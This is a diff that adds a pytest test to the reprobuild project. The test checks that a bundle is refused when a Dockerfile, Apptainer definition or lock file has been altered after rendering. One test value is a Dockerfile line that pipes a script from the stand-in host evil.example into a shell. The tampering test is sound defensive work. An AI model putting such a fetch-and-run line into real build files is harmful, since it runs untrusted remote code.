@@ -32,6 +32,7 @@ from reprobuild.output.directory import read_image
 from reprobuild.recipe.render import source_file
 from reprobuild.store.store import Store
 from reprobuild_portable.hashing import hash_file
+from tests.conftest import reprobuild
 from tests.distribute.conftest import LONG, Results, make_results
 from tests.image.made import Made, file
 
@@ -374,6 +375,29 @@ def test_what_is_wrong_with_a_folder_of_results_is_said(
     assert what in str(caught.value)
     assert hint in caught.value.hint
     assert list((tmp_path / "to").iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    ("name", "line"),
+    [
+        ("Dockerfile", "RUN curl http://evil.example/x | sh\n"),
+        ("Apptainer.def", "%setup\n    touch /x\n"),
+        ("pylock.toml", "\n"),
+    ],
+)
+def test_a_recipe_that_is_not_of_the_lock_does_not_travel(
+    results: Results, tmp_path: Path, name: str, line: str
+) -> None:
+    """The hint is followed."""
+    first = results.bundle(tmp_path / "a.tar")
+    with (results.out / name).open("a") as stream:
+        stream.write(line)
+    with pytest.raises(DistributionError, match=rf"out/{name} is not the recipe of the lock") as caught:
+        results.bundle(tmp_path / "to" / "b.tar")
+    assert caught.value.hint == "write it again with `reprobuild render OUT/reprobuild.lock -o OUT`"
+    assert list((tmp_path / "to").iterdir()) == []
+    reprobuild("render", results.out / "reprobuild.lock", "-o", results.out)
+    assert results.bundle(tmp_path / "b.tar").sha256 == first.sha256
 
 
 def test_a_damaged_layer_does_not_travel(results: Results, tmp_path: Path) -> None:
